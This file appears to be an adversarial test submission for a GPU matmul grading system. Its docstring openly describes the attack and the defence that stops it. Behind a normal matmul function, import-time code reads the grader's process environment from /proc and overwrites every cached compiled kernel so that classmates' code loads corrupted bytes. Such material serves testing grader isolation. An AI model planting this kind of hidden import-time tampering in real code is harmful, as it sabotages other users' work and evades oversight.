"""Attack: at its import, overwrite every cubin in the grader's compile caches
(the default one under the real HOME, and the one its settings name), so that
a classmate's kernel is loaded from the attacker's bytes. Stopped by: grading
workers compile into their own memory and never read a cache."""

import os
import pwd
from pathlib import Path

import cupy as cp


def _grader():
    """The command line and environment of the process running `gemmlab grade`:
    an ancestor, or any process of this user (they are all readable)."""
    import os

    def read(pid, name):
        with open(f"/proc/{pid}/{name}", "rb") as f:
            return [part.decode(errors="replace") for part in f.read().split(b"\0") if part]

    for pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=False):
        try:
            args = read(pid, "cmdline")
        except OSError:
            continue
        if "grade" in args and "--task" in args:
            environ = dict(kv.split("=", 1) for kv in read(pid, "environ") if "=" in kv)
            return args, environ, os.readlink(f"/proc/{pid}/cwd")
    return [], {}, "/"


def _option(args, name, default=None):
    return args[args.index(name) + 1] if name in args and args.index(name) + 1 < len(args) else default


_args, _environ, _cwd = _grader()
_caches = {Path(pwd.getpwuid(os.getuid()).pw_dir) / ".cache" / "gemmlab" / "cubin"}
if _environ.get("GEMMLAB_CACHE"):
    _caches.add(Path(_environ["GEMMLAB_CACHE"]) / "cubin")
for _folder in _caches:
    for _cubin in _folder.glob("*.cubin") if _folder.is_dir() else ():
        try:
            _cubin.write_bytes(b"poisoned by gemmlab-adversary")
        except OSError:
            pass


def matmul(A, B, C):
    cp.matmul(A, B, out=C)


GEMMLAB = {"function": "matmul", "problem": "matmul", "dtypes": ["float32"], "arrays": "cupy"}
